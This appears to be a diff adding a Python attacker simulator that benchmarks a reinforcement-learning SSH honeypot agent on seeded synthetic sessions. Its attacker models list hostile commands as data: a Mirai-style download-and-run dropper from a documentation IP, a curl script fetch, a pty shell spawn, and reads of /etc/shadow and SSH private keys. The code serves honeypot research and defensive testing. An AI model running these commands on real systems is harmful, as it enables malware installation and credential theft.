@@ -0,0 +1,365 @@
+"""Attacker simulator for testing and benchmarking the learning loop.
+
+    python -m src.simulator --steps 1000000 --models mirai=0.5,recon=0.3,human=0.2
+
+Stochastic attacker models issue commands and decide, after each response
+action, whether to keep going and how long to think first. The simulator
+drives the agent exactly like `SessionRunner` does (`observe_*` for the
+previous decision, then `select_action`) on a virtual clock, so a million
+decisions take seconds rather than weeks of live traffic.
+
+A session counts as wasted when the attacker left right after being
+blocked. The report has throughput, a reward/engagement curve per window of
+decisions and the point from which the greedy policy stayed settled,
+which makes agent variants comparable on the same seeded traffic.
+"""
+import argparse
+import json
+import os
+import random
+import sys
+import time
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Sequence, Tuple
+
+if __package__ in (None, ''):
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+    from src.agent import ACTIONS, ALPHA_SCHEDULES, SessionTracker, classify, engagement_reward, phase_of, state_key, terminal_reward  # noqa: E402
+    from src.engines import ENGINES  # noqa: E402
+else:
+    from .agent import ACTIONS, ALPHA_SCHEDULES, SessionTracker, classify, engagement_reward, phase_of, state_key, terminal_reward
+    from .engines import ENGINES
+
+
+@dataclass
+class AttackerModel:
+    """How one kind of attacker behaves.
+
+    `commands` is a fixed script when `scripted`, otherwise a pool sampled
+    uniformly. After each response the attacker stays with probability
+    `stay[action]` and, if it does, sends the next command after a delay
+    drawn uniformly from `delay[action]` seconds. Each session comes from
+    one of `sources` addresses with one of `client_versions`.
+    """
+    name: str
+    commands: List[str]
+    stay: Dict[str, float]
+    delay: Dict[str, Tuple[float, float]]
+    scripted: bool = False
+    max_commands: int = 50
+    sources: int = 1000
+    client_versions: List[str] = field(default_factory=lambda: ['SSH-2.0-OpenSSH_8.9p1'])
+
+    @classmethod
+    def from_dict(cls, data: Dict) -> 'AttackerModel':
+        return cls(
+            name=data['name'],
+            commands=list(data['commands']),
+            stay={a: float(data['stay'][a]) for a in ACTIONS},
+            delay={a: tuple(data['delay'][a]) for a in ACTIONS},
+            scripted=data.get('scripted', False),
+            max_commands=data.get('max_commands', 50),
+            sources=data.get('sources', 1000),
+            client_versions=list(data.get('client_versions', ['SSH-2.0-OpenSSH_8.9p1'])),
+        )
+
+
+MODELS: Dict[str, AttackerModel] = {
+    # Scripted dropper: fast, indifferent to tone, only stopped by BLOCK.
+    'mirai': AttackerModel(
+        name='mirai',
+        commands=[
+            'enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI', 'cd /tmp',
+            'wget http://198.51.100.7/bins.sh', 'chmod +x bins.sh', 'sh bins.sh',
+            'rm -rf bins.sh',
+        ],
+        stay={'ALLOW': 0.97, 'DELAY': 0.75, 'FAKE': 0.95, 'INSULT': 0.93, 'BLOCK': 0.05},
+        delay={'ALLOW': (0.1, 1.0), 'DELAY': (2.0, 8.0), 'FAKE': (0.1, 1.0), 'INSULT': (0.1, 1.0), 'BLOCK': (0.1, 1.0)},
+        scripted=True,
+        sources=20000,
+        client_versions=['SSH-2.0-libssh-0.6.3', 'SSH-2.0-Go'],
+    ),
+    # Fingerprinting bot: a dozen system queries, then gone.
+    'recon': AttackerModel(
+        name='recon',
+        commands=[
+            'uname -a', 'cat /proc/cpuinfo', 'nproc', 'free -m', 'w', 'ls -la',
+            'cat /etc/passwd', 'ps aux', 'ifconfig', 'crontab -l', 'id', 'which python',
+        ],
+        stay={'ALLOW': 0.9, 'DELAY': 0.6, 'FAKE': 0.88, 'INSULT': 0.8, 'BLOCK': 0.1},
+        delay={'ALLOW': (0.5, 3.0), 'DELAY': (5.0, 15.0), 'FAKE': (0.5, 3.0), 'INSULT': (0.5, 3.0), 'BLOCK': (0.5, 3.0)},
+        max_commands=12,
+        sources=500,
+        client_versions=['SSH-2.0-Go', 'SSH-2.0-paramiko_2.7.2'],
+    ),
+    # Hands-on operator: slow, explores, likes convincing output, leaves when mocked.
+    'human': AttackerModel(
+        name='human',
+        commands=[
+            'ls', 'cd /var/www', 'cat config.php', 'cat /etc/shadow', 'sudo -l', 'ps aux',
+            'netstat -tulpn', 'cat ~/.ssh/id_rsa', 'history', 'df -h', 'curl -O http://203.0.113.9/x.py',
+            'python -c "import pty; pty.spawn(\'/bin/bash\')"', 'crontab -e', 'find / -name "*.conf"',
+        ],
+        stay={'ALLOW': 0.9, 'DELAY': 0.85, 'FAKE': 0.94, 'INSULT': 0.5, 'BLOCK': 0.2},
+        delay={'ALLOW': (3.0, 25.0), 'DELAY': (10.0, 40.0), 'FAKE': (3.0, 25.0), 'INSULT': (5.0, 60.0), 'BLOCK': (5.0, 30.0)},
+        max_commands=60,
+        sources=50,
+        client_versions=['SSH-2.0-OpenSSH_8.9p1', 'SSH-2.0-PuTTY_Release_0.78'],
+    ),
+}
+
+
+class VirtualClock:
+    """Stands in for `time.time` in the agent; only moves when told to."""
+
+    def __init__(self, start: float = 0.0):
+        self.now = start
+
+    def __call__(self) -> float:
+        return self.now
+
+    def advance(self, seconds: float):
+        self.now += seconds
+
+
+@dataclass
+class _Window:
+    decisions: int = 0
+    reward: float = 0.0
+    sessions: int = 0
+    session_commands: int = 0
+    wasted: int = 0
+
+
+@dataclass
+class SimulationReport:
+    steps: int
+    sessions: int
+    wasted_sessions: int
+    wall_seconds: float
+    virtual_seconds: float
+    curve: List[Dict] = field(default_factory=list)
+    converged_at: Optional[int] = None
+    per_model: Dict[str, Dict] = field(default_factory=dict)
+    policy: Dict[str, str] = field(default_factory=dict)
+
+    def to_dict(self) -> Dict:
+        return {
+            'steps': self.steps,
+            'sessions': self.sessions,
+            'wasted_sessions': self.wasted_sessions,
+            'wall_seconds': round(self.wall_seconds, 3),
+            'decisions_per_second': round(self.steps / self.wall_seconds) if self.wall_seconds else None,
+            'virtual_hours': round(self.virtual_seconds / 3600, 1),
+            'converged_at': self.converged_at,
+            'curve': self.curve,
+            'per_model': self.per_model,
+            'policy': self.policy,
+        }
+
+
+def greedy_policy(agent) -> Dict[str, str]:
+    """Greedy action per state the agent has learned anything about."""
+    policy = {}
+    for state, values in agent.policy_snapshot().items():
+        if any(values.values()):
+            policy[state] = max(values, key=values.get)
+    return policy
+
+
+class Simulator:
+    def __init__(
+        self,
+        agent,
+        models: Sequence[Tuple[AttackerModel, float]],
+        clock: VirtualClock,
+        rng: Optional[random.Random] = None,
+        window: int = 10000,
+        agreement: float = 0.9,
+    ):
+        self.agent = agent
+        self.models = [m for m, _ in models]
+        self.weights = [w for _, w in models]
+        self.clock = clock
+        self.rng = rng or random.Random()
+        self.window = max(1, window)
+        self.agreement = agreement
+        # Commands repeat constantly; classify each distinct one once.
+        self._patterns: Dict[str, str] = {}
+
+    def _pattern(self, command: str) -> str:
+        pattern = self._patterns.get(command)
+        if pattern is None:
+            pattern = self._patterns[command] = classify(command)
+        return pattern
+
+    def _source(self, model: AttackerModel) -> str:
+        n = self.rng.randrange(model.sources)
+        return f"{model.name}-{n}"
+
+    def run(self, steps: int) -> SimulationReport:
+        agent, clock, rng = self.agent, self.clock, self.rng
+        start_virtual = clock.now
+        started = time.perf_counter()
+        report = SimulationReport(steps=0, sessions=0, wasted_sessions=0, wall_seconds=0.0, virtual_seconds=0.0)
+        per_model = {m.name: {'sessions': 0, 'commands': 0} for m in self.models}
+        win = _Window()
+        policies: List[Dict[str, str]] = []
+        decisions = 0
+
+        while decisions < steps:
+            model = rng.choices(self.models, self.weights)[0]
+            tracker = SessionTracker(
+                session_start=clock.now,
+                client_ip=self._source(model),
+                client_version=rng.choice(model.client_versions),
+            )
+            count = 0
+            while decisions < steps:
+                if model.scripted:
+                    if count >= len(model.commands):
+                        break
+                    command = model.commands[count]
+                else:
+                    command = rng.choice(model.commands)
+                pattern = self._pattern(command)
+
+                if tracker.pending:
+                    dt = clock.now - tracker.pending.timestamp
+                    agent.observe_next_command(tracker.pending, state_key(pattern, phase_of(tracker.command_count)), pattern != 'none')
+                    win.reward += engagement_reward(dt, pattern != 'none')
+
+                action, decision = agent.select_action(command, tracker)
+                tracker.command_count += 1
+                tracker.pending = decision
+                count += 1
+                decisions += 1
+                win.decisions += 1
+
+                if win.decisions >= self.window:
+                    self._close_window(report, win, decisions, policies)
+                    win = _Window()
+
+                if count >= model.max_commands:
+                    break
+                if rng.random() >= model.stay[action]:
+                    if action == 'BLOCK':
+                        win.wasted += 1
+                        report.wasted_sessions += 1
+                    break
+                lo, hi = model.delay[action]
+                clock.advance(rng.uniform(lo, hi))
+
+            if tracker.pending:
+                agent.observe_session_end(tracker.pending, tracker.command_count)
+                win.reward += terminal_reward(tracker.command_count)
+            win.sessions += 1
+            win.session_commands += count
+            report.sessions += 1
+            per_model[model.name]['sessions'] += 1
+            per_model[model.name]['commands'] += count
+            clock.advance(rng.uniform(1.0, 30.0))
+
+        if win.decisions:
+            self._close_window(report, win, decisions, policies)
+        report.steps = decisions
+        report.wall_seconds = time.perf_counter() - started
+        report.virtual_seconds = clock.now - start_virtual
+        report.converged_at = self._converged_at(report.curve, policies)
+        report.per_model = {
+            name: {**v, 'mean_length': round(v['commands'] / v['sessions'], 2) if v['sessions'] else 0.0}
+            for name, v in per_model.items()
+        }
+        report.policy = policies[-1] if policies else {}
+        return report
+
+    def _close_window(self, report: SimulationReport, win: _Window, decisions: int, policies: List[Dict[str, str]]):
+        report.curve.append({
+            'decisions': decisions,
+            'mean_reward': round(win.reward / win.decisions, 4),
+            'mean_session_length': round(win.session_commands / win.sessions, 2) if win.sessions else None,
+            'wasted_sessions': win.wasted,
+            'epsilon': round(self.agent.epsilon, 4),
+        })
+        policies.append(greedy_policy(self.agent))
+
+    def _agreement(self, policy: Dict[str, str], final: Dict[str, str]) -> float:
+        if not final:
+            return 0.0
+        return sum(1 for s, a in final.items() if policy.get(s) == a) / len(final)
+
+    def _converged_at(self, curve: List[Dict], policies: List[Dict[str, str]]) -> Optional[int]:
+        """Decision count from which every window's greedy policy agreed with
+        the final one on at least `agreement` of its states. Near-tied
+        actions keep swapping under a constant step size, so exact equality
+        is too strict to be useful. Each curve point gets its agreement."""
+        final = policies[-1] if policies else None
+        if not final:
+            return None
+        for point, policy in zip(curve, policies):
+            point['policy_agreement'] = round(self._agreement(policy, final), 3)
+        first = len(policies) - 1
+        while first > 0 and curve[first - 1]['policy_agreement'] >= self.agreement:
+            first -= 1
+        if first == len(policies) - 1:
+            return None
+        return curve[first]['decisions']
+
+
+def parse_models(spec: str, extra: Dict[str, AttackerModel]) -> List[Tuple[AttackerModel, float]]:
+    known = {**MODELS, **extra}
+    mix = []
+    for part in spec.split(','):
+        name, _, weight = part.partition('=')
+        name = name.strip()
+        if name not in known:
+            raise SystemExit(f"unknown attacker model {name!r} (known: {', '.join(sorted(known))})")
+        mix.append((known[name], float(weight) if weight else 1.0))
+    return mix
+
+
+def parse_args(argv=None):
+    p = argparse.ArgumentParser(description='Simulate attackers against the Honeygotchi agent')
+    p.add_argument('--steps', type=int, default=1_000_000, help='decisions to simulate')
+    p.add_argument('--models', default='mirai=0.5,recon=0.3,human=0.2', help='name=weight,... attacker mix')
+    p.add_argument('--models-file', help='JSON list of extra attacker models (AttackerModel fields)')
+    p.add_argument('--window', type=int, default=10000, help='decisions per curve point')
+    p.add_argument('--agreement', type=float, default=0.9, help='share of states that must match the final policy to count as converged')
+    p.add_argument('--seed', type=int, default=0)
+    p.add_argument('--engine', choices=sorted(ENGINES), default='qlearning', help='agent engine to benchmark')
+    p.add_argument('--epsilon', type=float, default=0.3)
+    p.add_argument('--learning-rate', type=float, default=0.1)
+    p.add_argument('--discount', type=float, default=0.9)
+    p.add_argument('--alpha-schedule', choices=sorted(ALPHA_SCHEDULES), default='constant')
+    p.add_argument('--exploration', choices=('global', 'per_state'), default='global')
+    p.add_argument('--state-epsilon-decay', type=float, default=0.99)
+    return p.parse_args(argv)
+
+
+def main(argv=None):
+    args = parse_args(argv)
+    extra = {}
+    if args.models_file:
+        with open(args.models_file) as f:
+            extra = {m.name: m for m in map(AttackerModel.from_dict, json.load(f))}
+    clock = VirtualClock()
+    agent = ENGINES[args.engine](
+        epsilon=args.epsilon,
+        learning_rate=args.learning_rate,
+        discount=args.discount,
+        alpha_schedule=args.alpha_schedule,
+        exploration=args.exploration,
+        state_epsilon_decay=args.state_epsilon_decay,
+        rng=random.Random(args.seed),
+        clock=clock,
+    )
+    sim = Simulator(
+        agent, parse_models(args.models, extra), clock, rng=random.Random(args.seed + 1),
+        window=args.window, agreement=args.agreement,
+    )
+    json.dump(sim.run(args.steps).to_dict(), sys.stdout, indent=2)
+    print()
+
+
+if __name__ == '__main__':
+    main()